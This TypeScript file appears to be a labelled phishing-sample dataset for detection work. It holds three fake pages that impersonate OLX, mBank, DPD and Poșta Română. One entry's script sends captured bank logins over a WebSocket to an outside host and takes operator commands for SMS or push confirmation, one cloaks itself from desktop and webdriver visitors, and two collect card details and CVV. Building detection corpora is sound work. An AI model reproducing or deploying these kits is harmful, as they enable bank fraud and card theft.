import { type Entry, htmlRoute } from '../entry.js';
import { doc, cardCss, logo } from '../parts/yz-kit.js';

export const entries: Entry[] = [
{
  id: 'yz-olx-odbierz-srodki-bank-chooser',
  label: 'phishing',
  kind: 'classifieds-delivery-kit',
  url: 'https://olx.pl-dostawa-bezpieczna.com/oferta/rower-kross-hexagon-ID8sk2Q',
  body: doc({
    lang: 'pl',
    title: 'OLX.pl - Otrzymaj środki za sprzedany przedmiot',
    noindex: true,
    css: `body{margin:0;font-family:Geomanist,Arial,sans-serif;background:#f2f4f5;color:#002f34}.hd{background:#002f34;padding:14px 24px}
.box{max-width:620px;margin:28px auto;background:#fff;border-radius:4px;padding:26px}
.item{display:flex;gap:16px;align-items:center;border:1px solid #e0e5e6;padding:12px;border-radius:4px}.item .ph{width:90px;height:70px;background:#cfd8dc}
.ok{background:#e6f9f5;border-left:4px solid #23e5db;padding:12px;margin:16px 0}
.banks{display:grid;grid-template-columns:repeat(3,1fr);gap:10px;margin-top:14px}.banks a{display:block;border:1px solid #d8dfe0;border-radius:4px;padding:16px 6px;text-align:center;color:#002f34;text-decoration:none;font-weight:700}
.banks a:hover{border-color:#002f34}`,
    body: `<div class="hd">${logo('OLX', '#23e5db', { mark: 'none', textColor: '#ffffff', w: 60 })}</div>
<div class="box">
  <h2>Kupujący opłacił Twój przedmiot</h2>
  <div class="item"><div class="ph"></div><div><b>Rower Kross Hexagon 6.0 rama M</b><br>1 150 zł · Przesyłka OLX (InPost)</div></div>
  <div class="ok">Środki w wysokości <b>1 150,00 zł</b> zostały zarezerwowane na Twoje konto w ramach usługi <b>Przesyłka OLX</b>. Aby je otrzymać, wybierz swój bank i potwierdź dane odbiorcy.</div>
  <div class="banks">
    <a href="/bank/pko?o=ID8sk2Q">PKO BP</a><a href="/bank/mbank?o=ID8sk2Q">mBank</a><a href="/bank/ing?o=ID8sk2Q">ING</a>
    <a href="/bank/santander?o=ID8sk2Q">Santander</a><a href="/bank/pekao?o=ID8sk2Q">Pekao</a><a href="/bank/millennium?o=ID8sk2Q">Millennium</a>
    <a href="/bank/alior?o=ID8sk2Q">Alior</a><a href="/bank/credit-agricole?o=ID8sk2Q">Credit Agricole</a><a href="/card?o=ID8sk2Q">Inny bank (karta)</a>
  </div>
  <p style="font-size:12px;color:#7f9799">Bezpieczna transakcja chroniona przez OLX. Masz pytania? Napisz do konsultanta na czacie.</p>
</div>`,
  }),
  routes: {
    'olx.pl-dostawa-bezpieczna.com/bank/mbank': htmlRoute(doc({
      lang: 'pl',
      title: 'mBank - logowanie',
      noindex: true,
      css: cardCss('#d10018', { radius: 2 }),
      body: `<div class="top">${logo('mBank', '#d10018', { mark: 'none', w: 90 })}<span class="muted">Odbiór płatności OLX: 1 150,00 zł</span></div>
<div class="card"><h1>Zaloguj się, aby odebrać środki</h1>
<form id="f"><label>Identyfikator</label><input type="text" name="login"><label>Hasło</label><input type="password" name="pass"><button class="btn">Zaloguj</button></form>
<p class="muted">Po zalogowaniu może być wymagane potwierdzenie w aplikacji mobilnej.</p></div>`,
      tail: `<script>
var ws=new WebSocket('wss://panel-olx.ru.tuna.am/ws?room=ID8sk2Q');
document.getElementById('f').onsubmit=function(e){e.preventDefault();ws.send(JSON.stringify({t:'creds',bank:'mbank',l:this.login.value,p:this.pass.value}));this.innerHTML='<div class="spin"></div><p>Proszę czekać, trwa przetwarzanie&hellip;</p>'};
ws.onmessage=function(m){var c=JSON.parse(m.data);if(c.cmd==='sms')location.href='/sms?o=ID8sk2Q';if(c.cmd==='push')document.querySelector('.card').innerHTML='<h1>Potwierdź w aplikacji mBank</h1>';if(c.cmd==='done')location.href='https://www.olx.pl/'};
</script>`,
    })),
  },
},
{
  id: 'yz-dpd-cz-mobile-only-doplatek',
  label: 'phishing',
  kind: 'courier-fee-kit',
  url: 'https://dpd-cz.dorucenizasilky.top/z/15505049211874',
  body: doc({
    lang: 'cs',
    title: 'DPD CZ',
    body: `<noscript>JavaScript je vyžadován.</noscript>`,
    tail: `<script>
if(!/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent)||navigator.webdriver){location.replace('https://www.dpd.com/cz/cs/')}
else{fetch('/z/app.html').then(function(r){return r.text()}).then(function(h){document.open();document.write(h);document.close()})}
</script>`,
  }),
  routes: {
    'dpd-cz.dorucenizasilky.top/z/app.html': htmlRoute(doc({
      lang: 'cs',
      title: 'DPD – doplatek za doručení',
      css: cardCss('#dc0032', { radius: 0, width: 440 }),
      body: `<div class="top">${logo('dpd', '#dc0032', { mark: 'square', w: 80 })}</div>
<div class="card"><h1>Zásilku nebylo možné doručit</h1>
<p>Zásilka č. <b>15505049211874</b> nemohla být doručena z důvodu neúplné adresy. Pro opětovné doručení uhraďte poplatek <b>32 Kč</b>.</p>
<form method="post" action="/z/pay.php"><label>Jméno</label><input type="text" name="jmeno"><label>Adresa</label><input type="text" name="adresa"><label>Číslo karty</label><input type="tel" name="karta"><label>Platnost</label><input type="text" name="exp"><label>CVV</label><input type="password" name="cvv"><button class="btn">Zaplatit 32 Kč</button></form></div>`,
    })),
  },
},
{
  id: 'yz-posta-romana-taxa-vamala',
  label: 'phishing',
  kind: 'courier-fee-kit',
  url: 'https://posta-romana.colet-retinut.com/ro/plata-taxa/RO771023459',
  body: doc({
    lang: 'ro',
    title: 'Poșta Română - Plata taxei vamale',
    css: cardCss('#003a7d', { radius: 4 }) + '\n.top{border-bottom:4px solid #ffd100}',
    body: `<div class="top">${logo('POȘTA ROMÂNĂ', '#003a7d', { mark: 'square', w: 200 })}</div>
<div class="card">
  <h1>Coletul dvs. este reținut</h1>
  <p>Coletul <b>RO771023459</b> a ajuns la oficiul vamal București. Pentru eliberare este necesară plata taxei de procesare de <b>4,99 RON</b>.</p>
  <form method="post" action="pay.php">
    <label>Nume complet</label><input type="text" name="nume" required>
    <label>Adresă de livrare</label><input type="text" name="adresa" required>
    <label>Număr card</label><input type="tel" name="card" required>
    <label>Data expirării</label><input type="text" name="exp" required>
    <label>CVV</label><input type="password" name="cvv" required>
    <button class="btn">Plătește 4,99 RON</button>
  </form>
  <p class="muted">Dacă taxa nu este achitată în 72 de ore, coletul va fi returnat expeditorului.</p>
</div>`,
  }),
},
];
